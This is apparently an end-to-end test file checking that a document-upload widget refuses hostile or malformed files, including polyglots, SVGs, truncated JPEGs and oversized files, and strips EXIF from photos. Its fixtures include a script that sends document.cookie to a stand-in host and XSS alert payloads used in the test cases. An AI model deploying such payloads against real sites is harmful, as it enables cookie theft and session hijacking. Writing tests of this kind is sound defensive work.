/**
 * Files refused by their content in real Chromium, before anything is uploaded: bytes that are not what
 * the name says, an SVG, an empty and a 25 MB file; a picture carrying a script after its pixels (a
 * polyglot), a JPEG cut short, and one whose structure is whole but that the browser cannot decode. A
 * real photo still uploads, re-encoded: its pixels only, without its EXIF or what was appended to it.
 * (Markup from the API and hostile links: hostile.test.ts.)
 */
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openPartner, shot, snapshot, startE2eEnv } from './support/e2eEnv';
import type { E2eEnv } from './support/e2eEnv';
import { seedAtLiveness } from './support/seedAtLiveness';
import { drawnImages } from './support/testFiles';
import type { TestFile } from './support/testFiles';

let env: E2eEnv;
let ids: Awaited<ReturnType<typeof seedAtLiveness>>;
let png: TestFile;
let jpeg: TestFile;
beforeAll(async () => {
  env = await startE2eEnv(37);
  ({ png, jpeg } = await drawnImages(env.browser));
  ids = await seedAtLiveness(env);
});
afterAll(async () => env?.close());

const SCRIPT_TAIL = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';

/**
 * Records, in the page, each file the widget sends (the file parts of every FormData it hands to
 * XMLHttpRequest, which carries uploads): what really leaves the browser, byte for byte.
 */
const RECORD_SENT_FILES = `
  window.__sentFiles = [];
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) {
    if (body instanceof FormData) {
      for (const part of body.values()) {
        if (part instanceof Blob) {
          const entry = { name: part.name, type: part.type, bytes: null };
          window.__sentFiles.push(entry);
          part.arrayBuffer().then((buffer) => { entry.bytes = Array.from(new Uint8Array(buffer)); });
        }
      }
    }
    return send.call(this, body);
  };
`;

interface SentFile {
  name: string;
  type: string;
  bytes: number[] | null;
}

/** The partner page back on the step with the proof of funds, and every upload request it makes. */
async function openProofOfFunds() {
  const opened = await openPartner(env, ids, undefined, RECORD_SENT_FILES);
  const uploads: string[] = [];
  opened.page.on('request', (request) => {
    if (request.method() === 'POST' && new URL(request.url()).pathname === '/v1/documents/files/')
      uploads.push(request.url());
  });
  await opened.page.getByRole('heading', { name: 'Liveness check' }).waitFor();
  await opened.page.getByRole('button', { name: 'Back' }).click();
  await opened.page.getByRole('heading', { name: 'Address and funds' }).waitFor();
  const field = opened.page.getByRole('group', { name: /Proof of funds/ });
  return { ...opened, uploads, field, input: field.locator('input[type=file]').first() };
}

/**
 * Picks `file` and returns the field's message about it. A picture the photo checks hold for a retake
 * (a small test picture) is used anyway, as a customer may: the content check refuses it all the same.
 */
async function refusal(page: Page, field: Locator, file: TestFile, message: RegExp) {
  await field.locator('input[type=file]').first().setInputFiles(file);
  const error = field.getByText(message).first();
  const useAnyway = page.getByRole('button', { name: 'Use it anyway' });
  await error.or(useAnyway).first().waitFor();
  if (await useAnyway.isVisible()) await useAnyway.click();
  await error.waitFor();
  return (await error.textContent()) ?? '';
}

/** Picks `file`, uses it anyway if the photo checks hold it, and waits until it is uploaded. */
async function upload(page: Page, field: Locator, file: TestFile): Promise<void> {
  await field.locator('input[type=file]').first().setInputFiles(file);
  const done = field.getByText(`Uploaded: ${file.name}`);
  const useAnyway = page.getByRole('button', { name: 'Use it anyway' });
  await done.or(useAnyway).first().waitFor({ timeout: 30_000 });
  if (await useAnyway.isVisible()) await useAnyway.click();
  await done.waitFor({ timeout: 30_000 });
}

describe('files refused by their content', () => {
  it('given files whose bytes do not match, an SVG, an empty and a 25 MB file / should refuse each before uploading', async () => {
    const { page, context, field, uploads } = await openProofOfFunds();
    const jpegHeader = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46]);
    const html = Buffer.from('<html><body><script>alert(1)</script></body></html>');
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    const messages = [
      await refusal(page, field, { name: 'statement.jpg', mimeType: 'image/jpeg', buffer: html }, /“statement\.jpg”/),
      await refusal(page, field, { name: 'logo.svg', mimeType: 'image/svg+xml', buffer: svg }, /“logo\.svg”/),
      await refusal(
        page,
        field,
        { name: 'empty.pdf', mimeType: 'application/pdf', buffer: Buffer.alloc(0) },
        /“empty\.pdf” is empty/,
      ),
      await refusal(
        page,
        field,
        {
          name: 'huge.jpg',
          mimeType: 'image/jpeg',
          buffer: Buffer.concat([jpegHeader, Buffer.alloc(25 * 1024 * 1024)]),
        },
        /“huge\.jpg” is 25.*MB; the limit is 10 MB/,
      ),
    ];
    await shot(page, 'hostile-files');
    expect(messages[0]).toMatch(/not a picture or a PDF|does not contain what its name says/);
    expect(messages[1]).toMatch(/not a picture or a PDF/);
    expect(uploads).toEqual([]);
    await context.close();
  });

  it('given a PNG with a script after its picture, a JPEG cut short and one that does not decode / should refuse each and store nothing', async () => {
    const before = await snapshot(env, ids.application_uuid);
    const { page, context, field, uploads } = await openProofOfFunds();
    // Whole in structure (start, one scan, end marker) but no picture in it: only decoding can tell.
    const undecodable = Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xda, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3f, 0x00]),
      Buffer.from('not a picture at all, just bytes'),
      Buffer.from([0xff, 0xd9]),
    ]);
    const polyglot = {
      name: 'statement.png',
      mimeType: 'image/png',
      buffer: Buffer.concat([png.buffer, Buffer.from(SCRIPT_TAIL)]),
    };
    const cut = {
      name: 'payslip.jpg',
      mimeType: 'image/jpeg',
      buffer: jpeg.buffer.subarray(0, jpeg.buffer.length >> 1),
    };
    const broken = { name: 'salary.jpg', mimeType: 'image/jpeg', buffer: undecodable };

    expect(await refusal(page, field, polyglot, /“statement\.png”/)).toBe(
      '“statement.png” contains hidden web page code, so it cannot be accepted. Please choose the original file or take a new photo.',
    );
    await shot(page, 'hostile-files-polyglot');
    expect(await refusal(page, field, cut, /“payslip\.jpg”/)).toBe(
      '“payslip.jpg” is damaged or incomplete and cannot be opened. Please choose another file or take a new photo.',
    );
    expect(await refusal(page, field, broken, /“salary\.jpg”/)).toBe(
      '“salary.jpg” is damaged or incomplete and cannot be opened. Please choose another file or take a new photo.',
    );
    await shot(page, 'hostile-files-undecodable');
    expect(uploads).toEqual([]);
    const after = await snapshot(env, ids.application_uuid);
    expect({ files: after.files, documents: after.documents }).toEqual({
      files: before.files,
      documents: before.documents,
    });
    await context.close();
  });

  it('given a real photo with EXIF and data appended / should upload it re-encoded: its pixels only', async () => {
    const { page, context, field, uploads } = await openProofOfFunds();
    // An EXIF segment (with a camera's "GPS" note) right after the start, and a phone's trailer after the end.
    const exifBody = Buffer.from('Exif\0\0II*\0\x08\0\0\0\0\0GPS 52.5200N 13.4050E', 'latin1');
    const exif = Buffer.concat([Buffer.from([0xff, 0xe1, 0, exifBody.length + 2]), exifBody]);
    const photo = {
      name: 'bank-card.jpg',
      mimeType: 'image/jpeg',
      buffer: Buffer.concat([
        jpeg.buffer.subarray(0, 2),
        exif,
        jpeg.buffer.subarray(2),
        Buffer.from('MotionPhoto_Data\0\x01\x02'),
      ]),
    };
    await upload(page, field, photo);

    expect(uploads).toHaveLength(1);
    const sent = await page.waitForFunction(() => {
      const files = (window as unknown as { __sentFiles: SentFile[] }).__sentFiles;
      return files.length === 1 && files[0]?.bytes ? files[0] : null;
    });
    const file = (await sent.jsonValue()) as SentFile;
    const bytes = Buffer.from(file.bytes ?? []);
    expect(file).toMatchObject({ name: 'bank-card.jpg', type: 'image/jpeg' });
    expect([...bytes.subarray(0, 3)]).toEqual([0xff, 0xd8, 0xff]); // a JPEG, drawn again
    expect(bytes.toString('latin1')).not.toContain('GPS 52.5200N');
    expect(bytes.toString('latin1')).not.toContain('MotionPhoto_Data');
    expect([...bytes.subarray(-2)]).toEqual([0xff, 0xd9]); // nothing after its end
    const stored = (await snapshot(env, ids.application_uuid)).files.filter((entry) => entry.name === 'bank-card.jpg');
    expect(stored).toEqual([expect.objectContaining({ contentType: 'image/jpeg', size: bytes.length })]);
    await context.close();
  });
});
